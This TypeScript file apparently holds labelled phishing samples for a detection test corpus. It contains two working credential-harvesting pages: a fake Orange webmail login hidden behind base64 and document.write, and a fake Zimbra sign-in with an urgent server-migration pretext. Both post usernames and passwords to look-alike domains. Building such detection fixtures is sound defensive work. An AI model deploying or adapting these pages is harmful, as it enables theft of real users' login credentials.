import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-roundcube-orange-webmail-docwrite',
  label: 'phishing',
  kind: 'obfuscated-webmail',
  url: 'https://messagerie-orange-fr.cfd/webmail/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mail Orange</title></head><body>
<script>
var s="${Buffer.from('<div style="font-family:Arial;max-width:420px;margin:60px auto;border:1px solid #ddd;padding:30px"><div style="background:#ff7900;width:60px;height:60px"></div><h2>Identifiez-vous</h2><p>avec votre adresse mail Orange</p><form method="post" action="https://messagerie-orange-fr.cfd/webmail/post.php"><input name="login" placeholder="Adresse e-mail" style="width:100%;padding:10px"><br><br><input type="password" name="pwd" placeholder="Mot de passe" style="width:100%;padding:10px"><br><br><button style="background:#ff7900;color:#fff;border:0;padding:12px 24px">S&#39;identifier</button></form></div>').toString('base64')}";
document.write(decodeURIComponent(escape(atob(s))));
</script>
<noscript>Activez JavaScript.</noscript></body></html>`,
},
  {
  id: 'zx-zimbra-conseil-departemental',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://zimbra-cd-herault.site/zimbra/',
  body: doc({ title: 'Zimbra Web Client Sign In', css: 'body{background:linear-gradient(#3f6fa0,#163250)}.z{background:#fff;width:420px;margin:90px auto;padding:30px;border-radius:4px}', body: `<div class="z"><b style="font-size:28px;color:#163250">zimbra</b><p>Département — Messagerie collaborative</p>
<p style="color:#b00;font-size:13px">Migration vers le nouveau serveur : merci de vous reconnecter avant vendredi pour conserver vos messages.</p>
<form method="post" action="https://zimbra-cd-herault.site/zimbra/auth.php"><label>Nom d'utilisateur</label><input name="username"><label>Mot de passe</label><input type="password" name="password"><label>Version</label><select name="client"><option>Par défaut</option><option>Avancée (Ajax)</option><option>Standard (HTML)</option></select><button class="btn" style="background:#163250">Connexion</button></form></div>` }),
},
];
